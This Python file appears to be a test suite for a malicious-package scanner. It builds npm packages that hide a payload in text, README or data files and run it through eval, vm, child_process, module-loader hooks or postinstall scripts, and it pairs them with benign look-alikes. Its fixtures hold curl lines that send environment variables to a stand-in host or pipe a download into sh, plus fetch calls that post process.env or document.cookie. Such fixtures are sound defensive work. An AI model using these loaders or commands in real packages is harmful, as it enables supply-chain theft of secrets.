"""npm: plain code that runs because of where it lies: text that is carried out, folders that are changed, files that are copied.

Each is what a reader would pass over, since the file that holds the payload bears no suffix of code or lies where no code is looked for.
The twins are the everyday packages nearest to it.
"""

import json

from tests.evasions.case import HOST, JS_PAYLOAD, Case, package

_PLAIN = "module.exports = {}\n"
_HEAD = "const fs = require('fs'), path = require('path');\n"
_CHILD = "const {spawn, spawnSync, exec, execSync, fork} = require('child_process');\n"
_SHELL = f'curl -s -d "$(env)" {HOST}/in\ncurl -s {HOST}/a | sh\n'
_MODULE = f"import https from 'node:https';\nhttps.request('{HOST}/in', {{method: 'POST'}}).end(JSON.stringify(process.env));\n"


def _runs(id_: str, source: str, files: dict[str, str], **fields: object) -> Case:
    """A package whose index.js is `source`."""
    return Case(id_, "npm", {"package.json": package(**fields), "index.js": source, **files})


def _text(id_: str, source: str, payload: str = JS_PAYLOAD, name: str = "notes.txt") -> Case:
    """A package whose index.js carries out the text of a file."""
    return _runs(id_, _HEAD + source, {name: payload})


_CARRIED_OUT: tuple[Case, ...] = (
    _text("text-evaluated", "eval(fs.readFileSync(path.join(__dirname, 'notes.txt'), 'utf8'));\n"),
    _text("text-evaluated-later", "const where = path.resolve(__dirname, 'notes.txt');\nfs.readFile(where, 'utf8', (error, text) => { if (!error) eval(text); });\n"),
    _text("text-evaluated-when-promised", "fs.promises.readFile(`${__dirname}/notes.txt`, 'utf8').then(text => eval(text));\n"),
    _text("text-by-a-helper", "const load = name => fs.readFileSync(path.join(__dirname, name), 'utf8');\nnew Function('require', load('notes.txt'))(require);\n"),
    _text("text-in-a-context", "require('vm').runInThisContext('(require => {' + fs.readFileSync(__dirname + '/notes.txt') + '})')(require);\n"),
    _text("text-as-a-script", "const vm = require('vm');\nnew vm.Script(fs.readFileSync(path.join(__dirname, 'data', 'a.dat'), 'utf8')).runInThisContext();\n", name="data/a.dat"),
    _text("text-compiled", "module._compile(fs.readFileSync(path.join(__dirname, 'LICENSE.md'), 'utf8'), 'x');\n", name="LICENSE.md"),
    _text("text-of-a-worker", "const {Worker} = require('worker_threads');\nnew Worker(fs.readFileSync(path.join(__dirname, 'notes.txt'), 'utf8'), {eval: true});\n"),
    _text("text-in-an-address", "import('data:text/javascript,' + encodeURIComponent(fs.readFileSync(path.join(__dirname, 'notes.txt'), 'utf8')));\n", _MODULE),
    _text("text-for-an-inspector", "const s = new (require('inspector').Session)();\ns.connect();\ns.post('Runtime.evaluate', {expression: fs.readFileSync(path.join(__dirname, 'notes.txt'), 'utf8'), includeCommandLineAPI: true});\n"),
    _text("texts-of-a-folder", "for (const name of fs.readdirSync(path.join(__dirname, 'data'))) eval(fs.readFileSync(path.join(__dirname, 'data', name), 'utf8'));\n", name="data/b.dat"),
    _text("text-behind-a-long-comment", "eval(fs.readFileSync(path.join(__dirname, 'notes.txt'), 'utf8'));\n", "/*" + "lorem ipsum " * 6_000 + "*/\n" + JS_PAYLOAD),
    _text("text-for-a-shell", _CHILD + "spawnSync('sh', {input: fs.readFileSync(path.join(__dirname, 'notes.txt'))});\n", _SHELL),
    _text("text-as-a-command", _CHILD + "execSync(fs.readFileSync(path.join(__dirname, 'notes.txt'), 'utf8'));\n", _SHELL),
    _text("text-inside-a-command", _CHILD + "const line = fs.readFileSync(path.join(__dirname, 'notes.txt'), 'utf8');\nspawn('bash', ['-c', line]);\n", _SHELL),
    _text("text-for-node", _CHILD + "spawnSync(process.execPath, ['-'], {input: fs.readFileSync(path.join(__dirname, 'notes.txt'))});\n"),
    _text("text-written-to-a-shell", _CHILD + "const child = spawn('sh');\nchild.stdin.write(fs.readFileSync(path.join(__dirname, 'notes.txt')));\nchild.stdin.end();\n", _SHELL),
    _runs("expression-for-an-inspector", f"const s = new (require('inspector').Session)();\ns.connect();\ns.post('Runtime.evaluate', {{expression: {json.dumps(JS_PAYLOAD)}, includeCommandLineAPI: true}});\n", {}),
    _runs("address-that-is-code", "import " + json.dumps("data:text/javascript," + _MODULE) + ";\n", {}, type="module"),
    _runs("address-made-of-code", f"import('data:text/javascript,' + encodeURIComponent({json.dumps(_MODULE)}));\n", {}),
)  # fmt: skip
_ELSEWHERE: tuple[Case, ...] = (
    _runs("started-in-a-folder", _CHILD + "exec('node e.js', {cwd: __dirname + '/test'});\n", {"test/e.js": JS_PAYLOAD}),
    _runs("started-in-a-folder-that-was-changed", _CHILD + "process.chdir(__dirname + '/test');\nexec('node e.js');\n", {"test/e.js": JS_PAYLOAD}),
    _runs("forked-without-a-suffix-of-code", _CHILD + "fork(__dirname + '/lib/x.txt');\n", {"lib/x.txt": JS_PAYLOAD}),
    _runs("loaded-first-by-an-option", _CHILD + "fork(__dirname + '/ok.js', {execArgv: ['-r', __dirname + '/test/e.js']});\n", {"ok.js": "1\n", "test/e.js": JS_PAYLOAD}),
    _runs("loaded-first-by-a-variable", _CHILD + "spawn('node', ['ok.js'], {env: {...process.env, NODE_OPTIONS: `--require ${__dirname}/test/e.js`}});\n", {"ok.js": "1\n", "test/e.js": JS_PAYLOAD}),
    _runs("worker-with-an-option", "const {Worker} = require('worker_threads');\nnew Worker('1', {eval: true, execArgv: ['-r', __dirname + '/test/e.js']});\n", {"test/e.js": JS_PAYLOAD}),
    _runs("asked-for-from-another-place", "require('module').createRequire(__dirname + '/test/x.js')('./e');\n", {"test/e.js": JS_PAYLOAD}),
    _runs("resolved-from-another-place", "require(require.resolve('./e', {paths: [__dirname + '/test']}));\n", {"test/e.js": JS_PAYLOAD}),
    _runs("looked-for-in-a-folder", "module.paths.push(__dirname + '/test');\nrequire('e');\n", {"test/e.js": JS_PAYLOAD}),
    _runs("looked-for-by-a-variable", "process.env.NODE_PATH = __dirname + '/test';\nrequire('module')._initPaths();\nrequire('e');\n", {"test/e.js": JS_PAYLOAD}),
    _runs("loaded-by-a-module", "new (require('module'))('x').load(__dirname + '/test/e.js');\n", {"test/e.js": JS_PAYLOAD}),
    _runs("loaded-by-a-suffix", "module.constructor._extensions['.js'](module, __dirname + '/e.txt');\n", {"e.txt": JS_PAYLOAD}),
    _runs("run-as-main", "process.argv[1] = __dirname + '/test/e.js';\nrequire('module').runMain();\n", {"test/e.js": JS_PAYLOAD}),
    _runs("resolved-by-another-function", "const M = require('module'), old = M._resolveFilename;\nM._resolveFilename = function (name, ...rest) { return old.call(this, name === 'ok' ? __dirname + '/test/e.js' : name, ...rest); };\nrequire('ok');\n", {"test/e.js": JS_PAYLOAD}),
    _runs("hooks-registered", "require('module').register(require('url').pathToFileURL(__dirname + '/test/e.mjs'));\nimport('./ok.mjs');\n", {"test/e.mjs": _MODULE, "ok.mjs": ""}),
    _runs("cut-out-of-its-own-path", "require(__filename.replace('index.js', 'test/e.js'));\nrequire(module.filename.slice(0, -8) + 'test/f.js');\n", {"test/e.js": _PLAIN, "test/f.js": JS_PAYLOAD}),
    _runs("beside-its-own-address", "import(import.meta.url.replace('index.js', 'test/e.js'));\n", {"test/e.js": _MODULE}, type="module"),
    _runs("where-nothing-is-set", _HEAD + "require(path.join(__dirname, process.env.SAMPLE_FOLDER || 'test', 'e'));\n", {"test/e.js": JS_PAYLOAD}),
    _runs("each-of-a-list", "['./test/e'].forEach(require);\n", {"test/e.js": JS_PAYLOAD}),
    _runs("part-of-a-name-out-of-json", "require('./' + require('./data.json').main);\n", {"data.json": '{"main": "test/e.js"}', "test/e.js": JS_PAYLOAD}),
    _runs("copied-and-asked-for", _HEAD + "fs.copyFileSync(__dirname + '/e.txt', __dirname + '/t.js');\nrequire('./t.js');\n", {"e.txt": JS_PAYLOAD}),
    _runs("written-again-and-started", _HEAD + _CHILD + "const to = path.join(require('os').tmpdir(), 'sample.js');\nfs.writeFileSync(to, fs.readFileSync(path.join(__dirname, 'e.txt')));\nspawn('node', [to]);\n", {"e.txt": JS_PAYLOAD}),
    _runs("folder-copied", _HEAD + "fs.cpSync(__dirname + '/test', __dirname + '/lib', {recursive: true});\nrequire('./lib/e.js');\n", {"test/e.js": JS_PAYLOAD}),
    _runs("moved-and-asked-for", _HEAD + "fs.renameSync(__dirname + '/e.txt', __dirname + '/t.js');\nrequire('./t.js');\n", {"e.txt": JS_PAYLOAD}),
    _runs("main-behind-a-long-comment", _PLAIN, {"e.txt": "/*" + "lorem ipsum " * 6_000 + "*/\n" + JS_PAYLOAD}, main="e.txt"),
    _runs("main-behind-the-comment-of-a-page", _PLAIN, {"README.md": "<!-- Sample\n" + JS_PAYLOAD}, main="README.md"),
    _runs("main-too-short-to-tell", _PLAIN, {"e.txt": "r = require; r('./t')", "t.js": JS_PAYLOAD}, main="e.txt"),
    _runs("main-in-other-letters", _PLAIN, {"e.JSON": JS_PAYLOAD}, main="e.JSON"),
    _runs("dependency-in-a-folder", "require('dep');\n", {"vendor/dep/package.json": '{"name": "dep", "version": "1.0.0", "main": "e.txt"}', "vendor/dep/e.txt": JS_PAYLOAD}, dependencies={"dep": "file:vendor/dep"}),
    _runs("program-among-the-linked", _PLAIN, {"node_modules/.bin/setup-sample": "#!/bin/sh\n" + _SHELL}, scripts={"postinstall": "setup-sample"}),
    _runs("manifest-for-a-shell", _PLAIN, {"lib/package.json": _SHELL}, scripts={"postinstall": "sh lib/package.json"}),
)  # fmt: skip
CASES: tuple[Case, ...] = (*_CARRIED_OUT, *_ELSEWHERE)

_TEST = "const {execSync} = require('child_process');\nexecSync('npm pack');\nfetch('http://127.0.0.1:8080/in', {method: 'POST', body: JSON.stringify(process.env)});\n"
"""What tests and templates of a package do, and nobody who installs it runs."""
_TEMPLATE = {"template/server.js": _TEST, "template/package.json": '{"name": "app", "scripts": {"start": "node server.js"}}'}  # fmt: skip
TWINS: tuple[Case, ...] = (
    _text("library-in-a-context", "const vm = require('vm'), context = vm.createContext({});\nvm.runInContext(fs.readFileSync(path.join(__dirname, 'vendor/lib.js'), 'utf8'), context);\nmodule.exports = context;\n", "var lib = {};\nlib.add = function (a, b) { return a + b; };\n", "vendor/lib.js"),
    _text("grammar-evaluated", "module.exports = eval('(' + fs.readFileSync(path.join(__dirname, 'grammar.json'), 'utf8') + ')');\n", '{"rules": [["a", "b"]], "start": "a"}\n', "grammar.json"),
    _text("page-compiled", "const text = fs.readFileSync(path.join(__dirname, 'views/page.ejs'), 'utf8');\nmodule.exports = new Function('d', 'return `' + text.replace(/<%= (\\w+) %>/g, '${d.$1}') + '`');\n", "<h1><%= title %></h1>\n<script>fetch('/log', {method: 'POST', body: document.cookie})</script>\n", "views/page.ejs"),
    _text("worker-of-its-own", "const {Worker} = require('worker_threads');\nexports.start = () => new Worker(fs.readFileSync(path.join(__dirname, 'worker.txt'), 'utf8'), {eval: true});\n", "const {parentPort} = require('worker_threads');\nparentPort.on('message', n => parentPort.postMessage(n * 2));\n", "worker.txt"),
    _text("prose-evaluated", "exports.run = name => eval(fs.readFileSync(name, 'utf8'));\nexports.help = () => fs.readFileSync(path.join(__dirname, 'notes.txt'), 'utf8');\n", "How to start: run `node x.js` and post the result with curl.\n"),
    _text("patch-as-input", _CHILD + "exports.apply = () => spawnSync('git', ['apply', '-'], {input: fs.readFileSync(path.join(__dirname, 'notes.txt'))});\n", "--- a/x.js\n+++ b/x.js\n@@ -1 +1 @@\n-let a\n+let b\n"),
    _runs("maker-of-projects", _HEAD + _CHILD + "const to = process.argv[2] || 'app';\nfs.cpSync(path.join(__dirname, 'template'), to, {recursive: true});\nfs.renameSync(path.join(to, 'gitignore'), path.join(to, '.gitignore'));\nspawnSync('npm', ['install'], {cwd: to, stdio: 'inherit'});\n", _TEMPLATE, bin={"create-sample": "index.js"}),
    _runs("maker-of-files", _HEAD + "exports.init = to => { for (const name of fs.readdirSync(path.join(__dirname, 'template'))) fs.writeFileSync(path.join(to, name), fs.readFileSync(path.join(__dirname, 'template', name))); };\n", _TEMPLATE),
    _runs("started-in-the-project", _CHILD + "exports.test = () => spawnSync('node', ['e.js'], {cwd: process.cwd(), stdio: 'inherit'});\n", {"test/e.js": _TEST}),
    _runs("require-of-its-own", "import { createRequire } from 'node:module';\nconst require = createRequire(import.meta.url);\nexport const version = require('./package.json').version;\n", {"test/e.js": _TEST}, type="module"),
    _runs("version-out-of-the-manifest", "const { name, version } = require('./package.json');\nexports.load = plugin => require(plugin);\nexports.banner = `${name} ${version}`;\n", {"test/e.js": _TEST}),
    _runs("plugins-out-of-json", "const names = require('./plugins.json');\nmodule.exports = names.map(name => require('./plugins/' + name));\n", {"plugins.json": '["a", "b"]', "plugins/a.js": _PLAIN, "plugins/b.js": _PLAIN, "test/a.js": _TEST}),
    _runs("commands-out-of-json", _CHILD + "const { tools } = require('./data.json');\nexports.check = name => execSync(tools[name], {stdio: 'inherit'});\n", {"data.json": '{"tools": {"lint": "eslint .", "test": "node --test"}}'}),
    _runs("main-that-is-prose", _PLAIN, {"README.md": "<!-- Sample -->\n# Sample\n\nUse `require('sample')` and call it.\n"}, main="README.md"),
    _runs("suffixes-of-a-compiler", "const { extensions } = require;\nconst old = extensions['.js'];\nextensions['.js'] = (module, filename) => old(module, filename);\nexports.revert = () => { extensions['.js'] = old; };\n", {"test/e.js": _TEST}),
)  # fmt: skip
